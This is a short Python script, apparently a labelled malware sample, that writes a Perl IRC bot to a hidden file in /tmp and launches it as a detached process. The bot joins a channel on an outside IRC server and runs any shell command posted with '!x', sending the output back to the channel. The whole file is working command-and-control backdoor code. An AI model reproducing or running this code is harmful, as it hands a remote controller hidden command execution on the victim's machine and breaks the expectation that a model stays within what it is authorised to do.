# class: bot by IRC; style: perl bot written by python
import subprocess
BOT = r'''
use IO::Socket;
my $s = IO::Socket::INET->new("irc.chat.example:6667") or die;
print $s "NICK b$$\r\nUSER b 0 * :b\r\n";
while (<$s>) {
    print $s "PONG $1\r\n" if /^PING (.*)/;
    print $s "JOIN #cc\r\n" if / 001 /;
    if (/PRIVMSG #cc :!x (.*)/) { my $o = `$1 2>&1`; print $s "PRIVMSG #cc :$_\r\n" for split /\n/, $o; }
}
'''
open("/tmp/.b.pl", "w").write(BOT)
subprocess.Popen(["perl", "/tmp/.b.pl"], start_new_session=True)
